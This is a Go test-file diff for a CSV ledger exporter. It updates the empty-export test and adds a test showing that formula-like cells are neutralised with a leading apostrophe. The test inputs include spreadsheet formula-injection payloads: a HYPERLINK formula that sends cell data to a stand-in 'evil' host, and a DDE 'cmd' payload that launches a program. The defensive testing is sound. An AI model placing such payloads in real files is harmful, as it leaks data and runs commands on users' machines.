@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -167,9 +168,9 @@ func TestExportLedger(t *testing.T) {
 			if err := Export(&buf, st, q); err != nil {
 				t.Fatal(err)
 			}
-			if len(tt.want) == 0 {
-				if buf.Len() != 0 {
-					t.Errorf("csv of nothing: %q", buf.String())
+			if len(tt.want) == 0 { // the BOM and the header only: a loader still sees the columns
+				if want := "\ufeff" + strings.Join(LedgerHeader, ",") + "\n"; buf.String() != want {
+					t.Errorf("csv of nothing: %q, want %q", buf.String(), want)
 				}
 				return
 			}
@@ -251,5 +252,15 @@ func TestSplitList(t *testing.T) {
 				t.Errorf("SplitList(joinList(%q)) = %q", items, got)
 			}
 		})
+	}
+}
+
+// TestSafeCells: a cell a spreadsheet would read as a formula gets a
+// leading apostrophe; numbers and plain text stay as they are.
+func TestSafeCells(t *testing.T) {
+	in := []string{`=HYPERLINK("http://evil/?"&A1,"点我")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)", "\tx", "-2", "+86", "王小明", "", "1.5"}
+	want := []string{`'=HYPERLINK("http://evil/?"&A1,"点我")`, `'+cmd|' /C calc'!A0`, "'-2+3", "'@SUM(1+1)", "'\tx", "-2", "+86", "王小明", "", "1.5"}
+	if got := safeCells(slices.Clone(in)); !slices.Equal(got, want) {
+		t.Errorf("safeCells =\n%q\nwant\n%q", got, want)
 	}
 }
